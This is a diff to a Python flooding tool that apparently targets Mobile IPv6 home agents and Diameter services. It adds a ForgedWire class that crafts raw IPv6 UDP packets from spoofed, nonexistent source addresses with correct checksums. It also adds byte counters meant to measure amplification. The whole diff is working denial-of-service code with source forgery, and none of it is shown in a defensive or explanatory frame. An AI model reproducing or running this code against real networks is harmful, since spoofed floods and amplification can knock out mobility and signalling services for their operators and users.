@@ -15,11 +15,11 @@ import struct
 from collections.abc import Sequence
 from contextlib import suppress
 from dataclasses import dataclass
-from ipaddress import IPv6Address
+from ipaddress import IPv6Address, IPv6Network
 from typing import Protocol
 
 from agents.core.eventlog import EventLog
-from agents.mip6.codec import Status
+from agents.mip6.codec import Status, internet_checksum
 from agents.nodes.flooder.floods import (
     Attack,
     BindingUpdates,
@@ -28,6 +28,7 @@ from agents.nodes.flooder.floods import (
 )
 from agents.nodes.flooder.settings import PORTS, FlooderConfiguration, FloodSettings
 from agents.shell.program import run
+from agents.shell.sockets import hearing_all
 
 FIRST_PORT = 20_000
 """Where the source ports of the attempts begin, and how many there are: an attempt has its own."""
@@ -40,7 +41,10 @@ _REPORT = 0.5
 
 _BATCH = 64
 _MAX_DATAGRAM = 65535
-_UDP_HEADER = 8
+_UDP_HEADER, _IPV6_HEADER, _HOP_LIMIT = 8, 40, 64
+_FIRST_FALSE = 0xFA15E00000
+"""Where false addresses begin in their prefix."""
+
 _CHECKSUM_AT = 6  # Octets into the UDP header.
 _ETHERTYPE_IPV6 = 0x86DD
 _BUSY = (errno.EAGAIN, errno.ENOBUFS, errno.ENETUNREACH, errno.EHOSTUNREACH)
@@ -52,7 +56,11 @@ class Count:
 
     attempts: int = 0
     sent: int = 0
+    octets: int = 0
     answered: int = 0
+    octets_back: int = 0
+    """Of IPv6 packets; of TCP, of what they carry. Both together are the amplification."""
+
     accepted: int = 0
     """Home addresses that a home agent has bound for it."""
 
@@ -95,6 +103,7 @@ class _Sockets:
         try:
             self._sender.sendto(packet, (to, 0))
             self._count.sent += 1
+            self._count.octets += len(packet)
         except OSError as error:
             if error.errno not in _BUSY:
                 raise
@@ -123,6 +132,7 @@ class UdpWire(_Sockets):
         length = _UDP_HEADER + len(packet)
         ports = FIRST_PORT + number % PORTS, self._attack.port
         self._transmit(struct.pack("!HHHH", *ports, length, 0) + packet, self._target)
+        self._count.octets += _IPV6_HEADER
 
     def _received(self, data: bytes) -> None:
         source, port, *_ = struct.unpack_from("!HHHH", data)
@@ -130,21 +140,52 @@ class UdpWire(_Sockets):
         if source != self._attack.port or not 0 <= number < PORTS:
             return
         self._count.answered += 1
+        self._count.octets_back += _IPV6_HEADER + len(data)
         if (packet := self._attack.answer(number, data[_UDP_HEADER:])) is not None:
             self.send(number, packet)
 
 
-class PacketWire(_Sockets):
-    """Whole IPv6 packets; answers are Binding Acknowledgements in clear, to whatever address."""
+class _Packets(_Sockets):
+    """The base of wires that send whole IPv6 packets, and hear all that is on the link."""
 
     def __init__(self, configuration: FlooderConfiguration, count: Count) -> None:
         sender = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
         _tie(sender, configuration.interface)
-        receiver = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0)
-        receiver.bind((configuration.interface, _ETHERTYPE_IPV6))
+        receiver = hearing_all(configuration.interface, socket.SOCK_DGRAM, _ETHERTYPE_IPV6)
         super().__init__(sender, receiver, count)
         self._target = configuration.target
         self._from = IPv6Address(configuration.target).packed
+
+
+class ForgedWire(_Packets):
+    """UDP from addresses that nobody has, another for each attempt; no answer is answered."""
+
+    def __init__(self, configuration: FlooderConfiguration, attack: Attack, count: Count) -> None:
+        super().__init__(configuration, count)
+        self._port = attack.port
+        self._prefix = IPv6Network(configuration.false_prefix)
+
+    def send(self, number: int, packet: bytes) -> None:
+        """Send a datagram of an attempt."""
+        source = self._prefix.network_address + (_FIRST_FALSE + number)
+        length = _UDP_HEADER + len(packet)
+        ports = FIRST_PORT + number % PORTS, self._port
+        datagram = struct.pack("!HHHH", *ports, length, 0) + packet
+        to = IPv6Address(self._target)
+        found = internet_checksum(source, to, socket.IPPROTO_UDP, datagram) or 0xFFFF
+        datagram = struct.pack("!HHHH", *ports, length, found) + packet
+        head = struct.pack("!IHBB", 6 << 28, length, socket.IPPROTO_UDP, _HOP_LIMIT)
+        self._transmit(head + source.packed + self._from + datagram, self._target)
+
+    def _received(self, data: bytes) -> None:
+        to = int.from_bytes(data[24:40]) - int(self._prefix.network_address)
+        if data[8:24] == self._from and _FIRST_FALSE <= to < _FIRST_FALSE + PORTS:
+            self._count.answered += 1
+            self._count.octets_back += len(data)
+
+
+class PacketWire(_Packets):
+    """Whole IPv6 packets; answers are Binding Acknowledgements in clear, to whatever address."""
 
     def send(self, number: int, packet: bytes) -> None:  # noqa: ARG002
         """Send a packet."""
@@ -154,6 +195,7 @@ class PacketWire(_Sockets):
         status = acknowledged(data) if data[8:24] == self._from else None
         if status is not None:
             self._count.answered += 1
+            self._count.octets_back += len(data)
             self._count.accepted += status < Status.UNSPECIFIED
 
 
@@ -184,8 +226,10 @@ class TcpWire:
             if packet:
                 writer.write(packet)
                 self._count.sent += 1
-            while await reader.read(_MAX_DATAGRAM):
+                self._count.octets += len(packet)
+            while data := await reader.read(_MAX_DATAGRAM):
                 self._count.answered += 1
+                self._count.octets_back += len(data)
         except OSError:
             pass
         finally:
@@ -207,6 +251,8 @@ def _wire(configuration: FlooderConfiguration, attack: Attack, count: Count) -> 
             return PacketWire(configuration, count)
         case DiameterConnections():
             return TcpWire(configuration, attack.port, count)
+    if configuration.flood.sources == "false":
+        return ForgedWire(configuration, attack, count)
     return UdpWire(configuration, attack, count)
 
 
@@ -249,7 +295,9 @@ class Flooder:
             seconds=round(self._loop.time() - self._begun, 6),
             attempts=count.attempts,
             sent=count.sent,
+            octets=count.octets,
             answered=count.answered,
+            octets_back=count.octets_back,
             accepted=count.accepted,
             refused=count.refused,
         )
